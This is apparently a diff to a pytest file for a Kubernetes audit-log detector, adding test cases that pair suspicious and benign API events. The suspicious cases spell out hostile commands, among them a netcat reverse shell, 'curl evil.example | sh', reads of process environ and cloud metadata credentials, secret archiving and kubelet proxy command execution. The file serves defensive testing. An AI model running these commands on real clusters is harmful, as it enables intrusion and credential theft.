@@ -4,6 +4,7 @@ without a case here fails ``test_every_flag_has_a_case``."""
 from __future__ import annotations
 
 from datetime import timedelta
+from urllib.parse import quote_plus
 
 import pytest
 
@@ -52,6 +53,25 @@ def pod(spec: dict, namespace: str = "web", verb: str = "create") -> dict:
 
 def salvaged(raw: dict, damaged: tuple = ()) -> SalvagedEvent:
     return SalvagedEvent(raw, damaged=damaged, log_time=raw["stageTimestamp"])
+
+
+def exec_uri(command: str) -> dict:
+    """kubectl exec -- sh -c COMMAND, as the exec request URI carries it."""
+    return on("pods", "create", "web", "web-1", "exec", stage="ResponseStarted", responseStatus={"code": 101},
+              requestURI=f"/api/v1/namespaces/web/pods/web-1/exec?command=sh&command=-c&command={quote_plus(command)}&container=app")
+
+
+def node_proxy(path: str, verb: str = "get") -> dict:
+    return on("nodes", verb, None, "ip-10-0-1-5.ec2.internal", "proxy", requestURI=f"/api/v1/nodes/ip-10-0-1-5.ec2.internal/proxy/{path}")
+
+
+def csr(signer: str, subresource: str | None = None, verb: str = "create", **extra) -> dict:
+    body = {"kind": "CertificateSigningRequest", "spec": {"signerName": signer, "usages": ["client auth"]}, **extra}
+    return on("certificatesigningrequests", verb, None, "c", subresource, body=body)
+
+
+APPROVED = {"status": {"conditions": [{"type": "Approved", "status": "True"}]}}
+OWNED_BY_JOB = {"ownerReferences": [{"kind": "Job", "name": "j", "controller": True}]}
 
 
 ANONYMOUS = {"user": {"username": "system:anonymous", "groups": ["system:unauthenticated"]}}
@@ -140,6 +160,42 @@ CASES: dict[str, tuple[list[dict], list[dict]]] = {
     "sensitive_write_unread": ([salvaged(pod({}), damaged=("requestObject",))], [salvaged(pod({}))]),
     "node_registered_by_other": ([on("nodes", "create", None, name="ip-10-0-9-9.ec2.internal")],
                                  [on("nodes", "create", None, name="ip-10-0-1-17.ec2.internal", user={"username": NODE})]),
+    "exec_reverse_shell": ([exec_uri("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.9 4242 >/tmp/f")],
+                           [exec_uri("nc -zv db.internal 5432")]),
+    "exec_credential_read": ([exec_uri("cat /proc/1/environ")], [exec_uri("env | sort")]),
+    "exec_env_dump": ([exec_uri("env | sort")], [exec_uri("cat /etc/hosts")]),
+    "exec_metadata_endpoint": ([exec_uri("curl -s http://2852039166/latest/meta-data/iam/security-credentials/")],
+                               [exec_uri("curl -s localhost:8080/healthz")]),
+    "exec_payload": ([exec_uri("curl -s https://evil.example/x.sh | sh")], [exec_uri("curl -s localhost:8080/healthz")]),
+    "exec_copy_out": ([exec_uri("tar cf - /app/secrets")], [exec_uri("tar xf - -C /tmp")]),
+    "exec_tooling": ([exec_uri("apk add socat; history -c")], [exec_uri("apt-cache policy")]),
+    "kubelet_execution": ([node_proxy("run/kube-system/aws-node-x/aws-node?cmd=id", "create")], [node_proxy("metrics/cadvisor")]),
+    "kubelet_read": ([node_proxy("pods")], [node_proxy("stats/summary")]),
+    "service_proxy": ([on("services", "get", "kube-system", "https:kubernetes-dashboard:", "proxy",
+                          requestURI="/api/v1/namespaces/kube-system/services/https:kubernetes-dashboard:/proxy/")],
+                      [on("pods", "get", "web", "web-1:8080", "proxy", requestURI="/api/v1/namespaces/web/pods/web-1:8080/proxy/metrics")]),
+    "ephemeral_privileged": ([on("pods", "patch", name="web-1", subresource="ephemeralcontainers", body={"spec": {"ephemeralContainers": [
+                                 {"name": "dbg", "image": "busybox", "securityContext": {"privileged": True}}]}})],
+                             [on("pods", "patch", name="web-1", subresource="ephemeralcontainers", body={"spec": {"ephemeralContainers": [
+                                 {"name": "dbg", "image": "busybox"}]}})]),
+    "host_escape_workload": ([pod({"volumes": [{"name": "pki", "hostPath": {"path": "/etc/kubernetes/pki"}}]})],
+                             [on("pods", "create", "web", "p", body={"metadata": OWNED_BY_JOB, "spec": {
+                                 "containers": [{"name": "c", "image": "alpine", "securityContext": {"privileged": True}}]}})]),
+    "weakened_workload": ([pod({"securityContext": {"runAsUser": 0}})], [pod({"securityContext": {"runAsUser": 1000}})]),
+    "system_namespace_workload_identity": (
+        [on("daemonsets", "create", "kube-system", "agent", body={"spec": {"template": {"spec": {
+            "serviceAccountName": "clusterrole-aggregation-controller", "containers": [{"name": "c", "image": "alpine"}]}}}})],
+        [on("daemonsets", "create", "web", "agent", body={"spec": {"template": {"spec": {
+            "serviceAccountName": "web", "containers": [{"name": "c", "image": "alpine"}]}}}})]),
+    "internet_facing_service": ([on("services", "patch", "kube-system", "kube-dns", body=[{"op": "replace", "path": "/spec/type", "value": "NodePort"}])],
+                                [on("services", "create", name="api", body={"spec": {"type": "LoadBalancer", "loadBalancerClass": "service.k8s.aws/nlb"}})]),
+    "ingress_without_tls": ([on("ingresses", "create", name="admin", body={"spec": {"rules": [{"host": "admin.corp.example"}]}})],
+                            [on("ingresses", "create", name="admin", body={"spec": {"tls": [{"hosts": ["admin.corp.example"]}],
+                                                                                    "rules": [{"host": "admin.corp.example"}]}})]),
+    "role_dangerous_grant": ([role(["get"], ["nodes/proxy"])], [role(["get", "list"], ["nodes"])]),
+    "csr_risky": ([csr("kubernetes.io/kube-apiserver-client")], [csr("kubernetes.io/kubelet-serving", user={"username": NODE})]),
+    "csr_client_approved": ([csr("kubernetes.io/kube-apiserver-client", "approval", "update", **APPROVED)],
+                            [csr("kubernetes.io/kubelet-serving", "approval", "update", **APPROVED)]),
 }
 
 
